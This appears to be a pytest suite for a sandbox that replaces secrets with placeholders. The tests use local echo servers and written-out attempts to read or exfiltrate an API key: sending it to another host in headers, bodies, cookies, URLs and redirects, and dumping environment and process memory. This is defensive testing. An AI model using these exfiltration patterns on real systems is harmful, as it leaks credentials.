"""Attacks on secrets: a task that holds a placeholder tries to learn the value, or to send it elsewhere.

The server is real, keeps what it was sent, and gives it back in every form that servers do.
"""

from __future__ import annotations

import base64
import gzip
import html
import json
import sqlite3
import textwrap
import threading
import zlib
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, quote, urlsplit

import pytest

from capsule.launch.journals import close_journals

VALUE = "sk-live/7Q+f3Zr9=Xw"
NAME = "OPENAI_KEY"


class _Echo(BaseHTTPRequestHandler):
    """Gives back the ``Authorization`` header, or what was kept of an earlier request, as its path says."""

    protocol_version = "HTTP/1.1"

    def handle_request(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        site: Site = self.server.site  # type: ignore[attr-defined]
        key = self.headers.get("Authorization", "").removeprefix("Bearer ")
        site.asked.append((self.path, str(self.headers), body))
        url = urlsplit(self.path)
        site.kept = key or site.kept
        getattr(self, url.path.strip("/").partition("/")[0])(site.kept, body, parse_qs(url.query))

    do_GET = do_POST = handle_request

    def give(self, content: bytes, *headers: tuple[str, str], status: int = 200, reason: str = "OK") -> None:
        self.send_response(status, reason)
        for name, value in (*headers, ("Content-Length", str(len(content)))):
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(content)

    def plain(self, key, body, query):
        self.give(f"you sent {key}".encode() + body)

    def header(self, key, body, query):
        self.give(b"", ("X-Echo", key), ("Set-Cookie", f"k={key}; Path=/"), (f"X-{key.encode().hex()}", "1"))

    def reason(self, key, body, query):
        self.give(b"", reason=f"Hello {key}")

    def quoted(self, key, body, query):
        self.give(f"{json.dumps({'k': key})} {quote(key)} {quote(key, safe='')} {html.escape(key)}".encode())

    def slashes(self, key, body, query):
        self.give(json.dumps(key).replace("/", "\\/").encode())

    def base64(self, key, body, query):
        texts = [base64.b64encode(b"x" * before + key.encode() + b"y").decode() for before in range(3)]
        texts.append(base64.urlsafe_b64encode(key.encode()).decode())
        self.give(" ".join(texts).encode())

    def hexadecimal(self, key, body, query):
        self.give(f"{key.encode().hex()} {key.encode().hex().upper()}".encode())

    def gzip(self, key, body, query):
        self.give(gzip.compress(key.encode() * 3), ("Content-Encoding", "gzip"))

    def deflate(self, key, body, query):
        self.give(zlib.compress(key.encode()), ("Content-Encoding", "deflate"))

    def twice(self, key, body, query):
        self.give(gzip.compress(gzip.compress(key.encode())), ("Content-Encoding", "gzip, gzip"))

    def br(self, key, body, query):
        self.give(key.encode(), ("Content-Encoding", "br"))

    def transfer(self, key, body, query):
        self.send_response(200)
        self.send_header("Transfer-Encoding", "gzip, chunked")
        self.end_headers()
        for piece in (key[:6].encode(), key[6:].encode(), b""):
            self.wfile.write(b"%x\r\n%s\r\n" % (len(piece), piece))

    def chunks(self, key, body, query):
        self.send_response(200)
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        for piece in (*key, ""):
            self.wfile.write(f"{len(piece):x}\r\n{piece}\r\n".encode())
            self.wfile.flush()

    def part(self, key, body, query):
        first, _, last = self.headers.get("Range", "bytes=0-999").removeprefix("bytes=").partition("-")
        self.give(key.encode()[int(first) : int(last) + 1], status=206)

    def to(self, key, body, query):
        self.give(b"", ("Location", query["url"][0].replace("KEY", key)), status=302)

    def broken(self, key, body, query):
        self.wfile.write(f"HTTP/9.9 {key} {key}\r\n\r\n".encode())
        self.close_connection = True

    def many(self, key, body, query):
        self.give(key.encode() * 2_000_000)

    def log_message(self, format: str, *args: object) -> None:
        """Says nothing."""


class Site:
    """A server that knows the secret, or is to be kept from it."""

    def __init__(self) -> None:
        self.asked: list[tuple[str, str, bytes]] = []
        self.kept = ""
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), _Echo)
        self.server.daemon_threads = True
        self.server.site = self  # type: ignore[attr-defined]
        self.port = self.server.server_port
        threading.Thread(target=self.server.serve_forever, args=(0.02,), daemon=True).start()

    def knows(self) -> bool:
        encoded = base64.b64encode(VALUE.encode()).decode()[:-4]
        return any(
            VALUE in head or VALUE in path or encoded in head or VALUE.encode() in body
            for path, head, body in self.asked
        )

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def site() -> Iterator[Site]:
    """The server that the secret is for."""
    site = Site()
    yield site
    site.close()


@pytest.fixture
def other() -> Iterator[Site]:
    """A server that the task may reach, and the secret may not."""
    site = Site()
    yield site
    site.close()


TOP = f"""
from capsule.http import get, post, request, HttpError
KEY = os.environ.get("{NAME}", "")

def auth(more=()):
    return [("Authorization", "Bearer " + KEY), *more]

def tried(*args, **options):
    try:
        answer = request(*args, **options)
    except HttpError as error:
        return [type(error).__name__, str(error)]
    return [answer.status_code, answer.reason, list(answer.headers.items()), answer.content.hex()]
"""


@pytest.fixture
def steal(attack, project, site, other, monkeypatch):
    """Runs a body whose URLs are ``here`` and ``there``, and looks for the value in all that came of it."""
    monkeypatch.setenv(NAME, VALUE)
    project.write("capsule.toml", f'[secrets]\n{NAME} = {{ hosts = ["127.0.0.1:{site.port}"] }}\n')
    hosts = "['127.0.0.1', 'localhost']"

    def run(body, *args, secrets=f"['{NAME}']", top="", **more):
        where = f"here, there = 'http://127.0.0.1:{site.port}', 'http://127.0.0.1:{other.port}'\n"
        heard: list[str] = []
        envelope = attack(
            where + textwrap.dedent(body),
            *args,
            top=TOP + top,
            options=f"secrets={secrets}, allowed_hosts={hosts}, timeout='20s'",
            on_output=lambda stream, text: heard.append(text),
            **more,
        )
        nowhere(VALUE, json.dumps(envelope), "".join(heard), *recorded(project))
        assert not other.knows()
        return envelope

    return run


def recorded(project) -> list[str]:
    """All text that was recorded of the project's runs."""
    close_journals()
    with sqlite3.connect(project / ".capsule/trace.db") as trace:
        tables = [name for (name,) in trace.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        return [str(row) for table in tables for row in trace.execute(f"SELECT * FROM {table}")]


def nowhere(value, *texts) -> None:
    """No text has the value, in any form that can be read back."""
    data = value.encode()
    forms = {value, json.dumps(value)[1:-1], quote(value, safe=""), data.hex(), data.hex().upper()}
    forms |= {data.hex().encode().hex(), value.replace("/", "\\/"), repr(value)[1:-1]}
    for before in range(3):
        encoded = base64.b64encode(b"x" * before + data).decode()
        forms |= {encoded[4:-4], base64.urlsafe_b64encode(b"x" * before + data).decode()[4:-4]}
    forms |= {base64.b64encode(form.encode()).decode()[4:-4] for form in (value, data.hex())}
    for text in texts:
        found = [form for form in forms if form in text]
        assert not found, (found, text[:2000])


def test_reading_the_environment(steal):
    key = steal(f"return dict(os.environ)['{NAME}']").unwrap()
    assert key.startswith("capsule_secret_")
    assert len(key) == 47


def test_looking_everywhere_in_the_sandbox(steal):
    found = steal(
        """
        import gc, glob
        texts = [repr(dict(os.environ)), repr(sys.argv), repr(glob.glob("/**", recursive=True))]
        texts += [repr(one)[:1000] for one in gc.get_objects() if isinstance(one, (str, dict, list))]
        return "".join(texts)[:1_000_000]
        """
    )
    assert "capsule_secret_" in found.result


def test_the_placeholder_cannot_be_guessed_from_another_run(steal):
    body = f"return os.environ['{NAME}']"
    assert len({steal(body).unwrap() for _ in range(3)}) == 3


FORMS = [
    "plain",
    "header",
    "reason",
    "quoted",
    "slashes",
    "base64",
    "hexadecimal",
    "gzip",
    "deflate",
    "chunks",
]


@pytest.mark.parametrize("form", FORMS)
def test_an_echo(steal, site, form):
    envelope = steal(f"return tried('GET', here + '/{form}', headers=auth())")
    assert site.knows()
    answer = json.dumps(envelope.unwrap())
    assert answer.startswith("[200")
    assert "capsule_secret_" in answer or b"capsule_secret_".hex() in answer


@pytest.mark.parametrize("form", FORMS)
def test_an_echo_of_an_earlier_request(steal, site, form):
    envelope = steal(f"tried('GET', here + '/plain', headers=auth())\nreturn tried('GET', here + '/{form}')")
    assert (
        "capsule_secret_" in (answer := json.dumps(envelope.unwrap())) or b"capsule_secret_".hex() in answer
    )


@pytest.mark.parametrize("form", ["twice", "br", "transfer"])
def test_an_echo_in_an_encoding_that_the_host_cannot_read(steal, site, form):
    envelope = steal(f"return tried('GET', here + '/{form}', headers=auth())")
    assert envelope.unwrap()[0] in ("PermissionDenied", "ConnectionFailed"), envelope


def test_an_echo_in_parts(steal, site):
    found = steal(
        """
        tried("GET", here + "/plain", headers=auth())
        ranges = [[("Range", f"bytes={at}-{at}")] for at in range(3)]
        ranges += [auth(ranges[0]), [("rAnGe", "x")]]
        return [tried("GET", here + "/part", headers=one) for one in ranges]
        """
    ).unwrap()
    assert {name for name, _ in found} == {"PermissionDenied"}
    assert "Range" in found[0][1]
    assert len(site.asked) == 1


def test_an_echo_that_grows_beyond_what_the_host_holds(steal, site):
    found = steal("return tried('GET', here + '/many', headers=auth())").unwrap()
    assert found[0] == "ResponseTooLarge"


def test_an_echo_in_a_message_of_the_host(steal, site):
    found = steal("return tried('GET', here + '/broken', headers=auth())").unwrap()
    assert found[0] == "ConnectionFailed"
    assert site.knows()


@pytest.mark.parametrize(
    "asking",
    [
        "request('GET', there + '/plain', headers=auth())",
        "request('GET', there + '/plain', headers={'X-Key': KEY})",
        "request('POST', there + '/plain', data=KEY)",
        "request('POST', there + '/plain', json={'messages': [KEY]})",
        "request('GET', there + '/plain', headers={'Cookie': 'a=b; k=' + KEY})",
        "request('GET', 'http://localhost:%s/plain' % here.rpartition(':')[2], headers=auth())",
        "request('GET', here + '/plain?key=' + KEY)",
        "request('GET', here + '/plain/' + KEY)",
        "request('GET', here + '/plain#' + KEY)",
        "request('GET', here + '/plain/' + ''.join('%%%02x' % ord(c) for c in KEY))",
        "request('GET', there + '/plain?key=' + KEY.upper())",
        "request('GET', here + '/plain', headers={'X-' + KEY: '1'})",
        "request('GET', here + '/plain', headers={'X-' + KEY.upper(): '1'})",
        "request('POST', here + '/plain', data=KEY)",
        "request('GET', there + '/plain', headers={'Authorization': 'Basic ' + b64(KEY + ':')})",
        "request('GET', there + '/plain', headers={'Authorization': 'basic  ' + b64('user:' + KEY)})",
    ],
)
def test_a_placeholder_where_it_must_not_go(steal, site, other, asking, project):
    top = "import base64\ndef b64(text):\n    return base64.b64encode(text.encode()).decode()\n"
    envelope = steal(
        f"try:\n    {asking}\nexcept PermissionError as error:\n    return str(error)\n", top=top
    )
    assert NAME in envelope.unwrap(), envelope
    assert "capsule.toml:2" in envelope.result
    assert not site.knows()
    assert site.asked == other.asked == []
    assert any("'secrets'" in row and NAME in row for row in recorded(project))


@pytest.mark.parametrize("header", ["Authorization", "Cookie", "X-Api-Key", "x-key"])
def test_a_redirect_to_another_host(steal, site, other, header):
    found = steal(
        f"return tried('GET', here + '/to?url=' + there + '/plain', headers=[('{header}', KEY)])"
    ).unwrap()
    assert site.knows()
    if header in ("Authorization", "Cookie"):
        assert found[0] == 200
        assert "capsule_secret" not in other.asked[0][1]
    else:
        assert found[0] == "PermissionDenied"
        assert other.asked == []


def test_a_redirect_of_a_body_to_another_host(steal, site, other, project):
    project.write(
        "capsule.toml", f'[secrets]\n{NAME} = {{ hosts = ["127.0.0.1:{site.port}"], in = ["body"] }}\n'
    )
    found = steal("return tried('POST', here + '/plain', data='k=' + KEY)").unwrap()
    assert found[0] == 200
    assert site.asked[0][2] == f"k={VALUE}".encode()
    _Echo.again = lambda self, *args: self.give(b"", ("Location", args[2]["url"][0]), status=307)
    found = steal("return tried('POST', here + '/again?url=' + there + '/plain', data='k=' + KEY)").unwrap()
    assert found[0] == "PermissionDenied"
    assert other.asked == []


@pytest.mark.parametrize("place", ["/plain?k=KEY", "/KEY", "/plain#KEY"])
def test_a_redirect_whose_address_has_the_value(steal, site, other, place):
    tail = place.replace("#", "%23")
    steal(f"return tried('GET', here + '/to?url=' + there + '{tail}', headers=auth())")
    assert site.knows()
    assert not any(VALUE in path or quote(VALUE, safe="") in path for path, _, _ in other.asked)


def test_a_redirect_that_is_not_followed(steal, site):
    found = steal(
        "return tried('GET', here + '/to?url=/x?KEY', headers=auth(), allow_redirects=False)"
    ).unwrap()
    assert found[0] == 302
    assert "capsule_secret_" in json.dumps(found)


def test_printing_it_in_pieces_and_failing_with_it(steal):
    envelope = steal(
        """
        echo = get(here + "/plain", headers=auth()).text()
        for character in echo:
            print(character, end="", flush=True)
        print(echo, file=sys.stderr)
        raise RuntimeError(echo)
        """
    )
    assert "capsule_secret_" in envelope.error["message"]


def test_a_task_that_does_not_name_the_secret(steal, site):
    found = steal(
        """
        return [stranger(here, KEY).unwrap(), KEY]
        """,
        top="""
@task(name="stranger", allowed_hosts=["127.0.0.1"])
def stranger(here, key):
    try:
        get(here + "/plain", headers={"Authorization": "Bearer " + key})
    except PermissionError as error:
        return [key, os.environ.get("OPENAI_KEY"), str(error)]
""",
    ).unwrap()
    [key, own, message], placeholder = found
    assert key == placeholder
    assert own is None
    assert "stranger" in message
    assert NAME in message
    assert site.asked == []


def test_the_placeholder_of_an_earlier_run(steal, site):
    earlier = steal("return KEY").unwrap()
    assert steal("return tried('GET', here + '/plain', headers={'X': args[0]})", earlier).unwrap()[0] == 200
    assert earlier in site.asked[0][1]
    assert not site.knows()


def test_placeholders_that_would_fill_the_host_s_memory(steal, site, project, monkeypatch):
    monkeypatch.setenv("LONG", "v" * 65_536)
    project.write(
        "capsule.toml",
        f'[secrets]\n{NAME} = {{ hosts = ["127.0.0.1:{site.port}"], in = ["headers", "body"] }}\n'
        f'LONG = {{ hosts = ["127.0.0.1:{site.port}"], in = ["headers", "body"] }}\n',
    )
    found = steal(
        """
        long = os.environ["LONG"]
        return [
            tried("POST", here + "/plain", data=long * 100_000),
            tried("GET", here + "/plain", headers={"X": long * 1000}),
            tried("GET", here + "/plain", headers=[("X", long) for _ in range(90)]),
        ]
        """,
        secrets=f"['{NAME}', 'LONG']",
    ).unwrap()
    assert [kind for kind, _ in found] == ["ResponseTooLarge"] * 3
    assert site.asked == []


def test_a_variable_that_is_a_secret_s_source(attack, project, monkeypatch):
    from capsule import CapsuleError

    monkeypatch.setenv("SOURCE", VALUE)
    project.write("capsule.toml", f'[secrets]\n{NAME} = {{ env = "SOURCE", hosts = ["127.0.0.1"] }}\n')
    with pytest.raises(CapsuleError, match=f"SOURCE.*secret {NAME}"):
        attack("return os.environ.get('SOURCE')", options="env_variables=['SOURCE']")


def test_what_verbose_and_trace_show(cli, project, site):
    project.write("capsule.toml", f'[secrets]\n{NAME} = {{ hosts = ["127.0.0.1:{site.port}"] }}\n')
    project.write(
        "main.py",
        f"""
        import os
        from capsule import task
        from capsule.http import get

        @task(name="main", secrets=["{NAME}"], allowed_hosts=["127.0.0.1"])
        def main(url):
            key = os.environ["{NAME}"]
            print(get(url + "/plain", headers={{"X": key, "Authorization": "Bearer " + key}}).text())
            return get(url + "/" + key).text()
        """,
    )
    done = cli("run", "--verbose", "main.py", f"http://127.0.0.1:{site.port}", env={NAME: VALUE})
    assert done.status == 1
    assert "refused by secrets" in done.stderr
    assert "main.py:5" not in done.stdout
    shown = cli("trace", "--json").stdout
    run = json.loads(shown)["runs"][0]["id"]
    tree = cli("trace", run, "--output")
    assert "refused secrets" in tree.stdout
    nowhere(VALUE, done.stdout, done.stderr, shown, tree.stdout, cli("trace", run, "--json").stdout)
    assert site.knows()


def test_no_process_of_the_runtime_but_the_caller_has_the_value(steal, site):
    """What workers were given, they could be made to give away: they are given placeholders."""
    from pathlib import Path

    from capsule.workers.pool import pool

    if not Path("/proc/self/environ").exists():
        pytest.skip("needs Linux")
    pool()
    steal("return tried('GET', here + '/plain', headers=auth())")
    for process in Path("/proc").glob("[0-9]*"):
        try:
            parent = int((process / "stat").read_text().rpartition(")")[2].split()[1])
            command = (process / "cmdline").read_bytes()
            environ = (process / "environ").read_bytes()
        except OSError:
            continue
        if b"capsule" in command and b"pytest" not in command and parent != 1:
            assert VALUE.encode() not in environ, command
